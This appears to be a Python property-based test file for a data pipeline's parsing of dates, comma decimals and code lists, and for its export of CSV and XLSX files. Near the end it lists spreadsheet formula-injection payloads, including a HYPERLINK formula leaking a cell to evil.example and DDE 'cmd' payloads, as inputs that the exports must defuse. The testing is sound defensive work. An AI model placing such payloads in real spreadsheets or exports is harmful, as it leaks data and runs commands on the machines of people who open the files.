"""Property-based tests (hypothesis) of what turns source text into typed values: dates in the
formats a mapping declares, decimals written with a comma, code lists; and of the exports'
formula neutralisation. Whatever the input, every row is loaded with the value it says or
quarantined with the column named: never a silent NULL, never a row lost."""

from __future__ import annotations

import io
import zipfile
from csv import reader
from datetime import date
from decimal import Decimal

import duckdb
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboards.export import csv_bytes, xlsx_bytes
from dashboards.indicators import Sheet
from pipelines import mapped
from pipelines.config import Source, load_mapping
from rrc.spreadsheet import FORMULA_START, neutralise

MAPPING = """
[tables.t]
key = ["id"]

[entities.person]
from = "t"
into = "identity"
[entities.person.columns]
identity_key = "id"
birth_date = { column = "born", format = ["%d/%m/%Y", "%Y-%m-%d"] }
sex = { column = "sex", codes = "sex" }

[entities.place]
from = "t"
into = "establishment_geo"
[entities.place.columns]
finess = "id"
lat = { column = "lat", decimal_comma = true }

[codes.sex]
H = "M"
F = "F"
"""
FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
CELL = st.one_of(st.none(), st.text(max_size=12))


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Source:
    path = tmp_path_factory.mktemp("mapping") / "prop.toml"
    path.write_text(MAPPING, encoding="utf-8")
    return Source("prop", "spreadsheet", load_mapping(path))


def _apply(
    source: Source, rows: list[dict[str, str | None]]
) -> tuple[duckdb.DuckDBPyConnection, dict]:
    """Map `rows` (columns id, born, sex, lat; all text) with MAPPING; check reconciliation."""
    con = duckdb.connect()
    frame = pl.DataFrame(
        [{"id": str(i), **r} for i, r in enumerate(rows)],
        schema={c: pl.String for c in ("id", "born", "sex", "lat")},
    ).with_columns(_load_id=pl.lit("p"))
    con.execute("CREATE SCHEMA raw")
    con.register("_rows", frame.to_arrow())
    con.execute('CREATE TABLE raw."prop__t" AS SELECT * FROM _rows')
    rec = {r.entity: r for r in mapped.apply(con, [source])}
    for r in rec.values():
        assert r.offered == len(rows) == r.loaded + r.quarantined
    return con, rec


@FAST
@given(
    st.lists(
        st.tuples(st.dates(date(1900, 1, 1), date(2099, 12, 31)), st.sampled_from([0, 1])),
        min_size=1,
        max_size=20,
    )
)
def test_dates_in_a_declared_format_read_back_exactly(source: Source, dates: list) -> None:
    rows = [
        {"born": d.strftime("%d/%m/%Y" if f else "%Y-%m-%d"), "sex": "F", "lat": "45,5"}
        for d, f in dates
    ]
    con, rec = _apply(source, rows)
    assert rec["person"].quarantined == 0
    got = con.execute(
        "SELECT birth_date FROM mapped.identity ORDER BY identity_key::INT"
    ).fetchall()
    assert [g for (g,) in got] == [d for d, _ in dates]


@FAST
@given(
    st.lists(
        st.decimals(min_value=-90, max_value=90, places=6, allow_nan=False), min_size=1, max_size=20
    )
)
def test_decimals_with_a_comma_read_back_exactly(source: Source, values: list[Decimal]) -> None:
    rows = [{"born": "01/01/1950", "sex": "H", "lat": f"{v:f}".replace(".", ",")} for v in values]
    con, rec = _apply(source, rows)
    assert rec["place"].quarantined == 0
    got = con.execute("SELECT lat FROM mapped.establishment_geo ORDER BY finess::INT").fetchall()
    assert [Decimal(str(g)).quantize(Decimal("1e-6")) for (g,) in got] == values


@FAST
@given(st.lists(st.fixed_dictionaries({"born": CELL, "sex": CELL, "lat": CELL}), max_size=15))
def test_any_text_is_loaded_as_it_reads_or_quarantined_naming_its_column(
    source: Source, rows: list[dict[str, str | None]]
) -> None:
    con, _ = _apply(source, rows)
    people = dict(con.execute("SELECT identity_key, sex FROM mapped.identity").fetchall())
    for i, row in enumerate(rows):
        reasons = [
            r
            for (r,) in con.execute(
                "SELECT reason FROM quality.quarantine WHERE original_row->>'id' = ? "
                "AND entity = 'identity'",
                [str(i)],
            ).fetchall()
        ]
        if str(i) in people:  # loaded: a code read through its list, never a silent NULL
            assert reasons == []
            assert people[str(i)] == {"H": "M", "F": "F", None: None}[row["sex"]]
        else:
            assert len(reasons) == 1
            named = [c for c in ("born", "sex", "birth_date") if c in reasons[0]]
            assert named, reasons


HOSTILE = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
            "=cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ]
    ),
)


@settings(max_examples=200, deadline=None)
@given(HOSTILE)
def test_no_exported_cell_starts_like_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert isinstance(safe, str) and not safe.startswith(FORMULA_START)
    assert safe in (text, "'" + text)  # the text itself is kept, only defused


@settings(max_examples=25, deadline=None)
@given(st.lists(HOSTILE, min_size=1, max_size=8))
def test_a_chart_exported_as_csv_or_xlsx_carries_no_formula(labels: list[str]) -> None:
    frame = Sheet([labels[0], "n"], [[label, n] for n, label in enumerate(labels)])
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(frame, "export"))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # not one formula cell in the workbook
    csv = csv_bytes(frame).decode("utf-8-sig")
    cells = [c for row in reader(io.StringIO(csv), delimiter=";") for c in row]
    assert not any(c.startswith(FORMULA_START) for c in cells)
